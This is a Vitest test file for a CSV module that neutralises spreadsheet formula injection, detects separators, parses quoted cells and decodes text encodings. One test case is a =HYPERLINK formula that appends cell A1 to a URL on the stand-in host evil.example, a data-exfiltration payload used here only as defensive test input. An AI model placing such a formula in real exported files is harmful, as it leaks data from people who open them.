import { decodeCsv, detectDelimiter, neutraliseCell, readCsv, restoreCell, toCsv } from '@mpp/api/csv'
import { describe, expect, it } from 'vitest'

describe('CSV cells', () => {
  it.each([
    ['=HYPERLINK("https://evil.example/x?d="&A1)', `'=HYPERLINK("https://evil.example/x?d="&A1)`],
    ['+628123', `'+628123`],
    ['-1+1', `'-1+1`],
    ['@SUM(A1:A9)', `'@SUM(A1:A9)`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
  ])('neutralise a cell starting %j', (cell, safe) => {
    expect(neutraliseCell(cell)).toBe(safe)
    expect(restoreCell(safe)).toBe(cell)
  })

  it('leave numbers, names and apostrophes alone', () => {
    for (const cell of ['-3', '4,5', '-0.25', '100.00', 'Kota Lubuklinggau', "Jum'at", "'quoted'", ''])
      expect(neutraliseCell(cell)).toBe(cell)
    expect(restoreCell("'quoted'")).toBe("'quoted'")
  })

  it('are neutralised and quoted in the file', () => {
    expect(
      toCsv([
        ['name', 'n'],
        ['=1+2,"x"', '-4'],
      ]),
    ).toBe('\uFEFFname,n\r\n"\'=1+2,""x""",-4\r\n')
  })
})

describe('reading CSV as spreadsheets save it', () => {
  it.each([
    ['a,b,c\n1,2,3', ','],
    ['a;b;c\r\n1;2;3', ';'],
    ['\uFEFFagency_id;service_id;"name, with comma"\n', ';'],
    ['a\tb\tc\n', '\t'],
    ['\n\nsingle\n', ','],
  ])('detects the separator of %j', (text, delimiter) => {
    expect(detectDelimiter(text)).toBe(delimiter)
  })

  it('reads a semicolon file with a BOM, CRLF and quoted cells, with the line of each record', async () => {
    const text =
      '\uFEFFid;nama;biaya\r\nakta;"Akta; Kelahiran";"Rp10.000,00"\r\n\r\nskck;"SKCK\r\nbaru";Gratis\r\nsim;SIM;"4""x6"""\r\n'
    const read = await readCsv(text)
    expect(read).toEqual({
      ok: true,
      delimiter: ';',
      records: [
        { cells: ['id', 'nama', 'biaya'], line: 1 },
        { cells: ['akta', 'Akta; Kelahiran', 'Rp10.000,00'], line: 2 },
        { cells: ['skck', 'SKCK\nbaru', 'Gratis'], line: 4 },
        { cells: ['sim', 'SIM', '4"x6"'], line: 6 },
      ],
    })
  })

  it('reads the same records from the comma file', async () => {
    const semicolon = await readCsv('id;nama\nakta;"Akta, Kelahiran"\n')
    const comma = await readCsv('id,nama\nakta,"Akta, Kelahiran"\n')
    expect(semicolon.ok && semicolon.records).toEqual(comma.ok && comma.records)
  })

  it('keeps a quote inside an unquoted cell as text', async () => {
    const read = await readCsv('id,foto\nx,Pas foto 4"x6"\n')
    expect(read.ok && read.records[1]?.cells).toEqual(['x', 'Pas foto 4"x6"'])
  })

  it('says where a quote is never closed, as data rather than the parser English', async () => {
    const read = await readCsv('id;nama;biaya\nakta;Akta;Gratis\nskck;"SKCK;Gratis\nsim;SIM;Gratis\n')
    expect(read).toEqual({
      ok: false,
      delimiter: ';',
      problem: { kind: 'unclosed_quote', line: 3, column: 1, header: ['id', 'nama', 'biaya'] },
    })
  })

  it('decodes UTF-8 with or without a BOM, and Windows-1252 otherwise', () => {
    expect(decodeCsv(new TextEncoder().encode('\uFEFFJum’at'))).toBe('\uFEFFJum’at')
    expect(decodeCsv(Uint8Array.from([0x4a, 0x75, 0x6d, 0x92, 0x61, 0x74, 0x20, 0xe9]))).toBe('Jum’at é')
  })
})
